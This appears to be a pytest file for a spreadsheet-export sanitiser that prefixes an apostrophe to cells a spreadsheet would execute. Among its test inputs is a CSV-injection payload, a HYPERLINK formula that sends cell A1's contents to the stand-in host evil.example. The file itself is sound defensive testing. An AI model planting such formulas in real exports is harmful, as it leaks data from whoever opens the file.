"""core.exports.safe_cell: the one rule every CSV and XLSX writer uses (issue 10 item 5)."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from typing import Any

import pytest

from oversight.core.exports import safe_cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Amara Okafor", "Amara Okafor"),
        ("", ""),
        (None, ""),
    ],
)
def test_text_a_spreadsheet_would_run_is_written_with_an_apostrophe(
    value: Any, written: str
) -> None:
    assert safe_cell(value) == written


@pytest.mark.parametrize(
    "value",
    [-3, 0, 12.5, -0.5, Decimal("-1.25"), dt.date(2026, 11, 17), dt.datetime(2027, 2, 28, 9)],
)
def test_numbers_and_dates_are_written_as_they_are(value: Any) -> None:
    assert safe_cell(value) == value
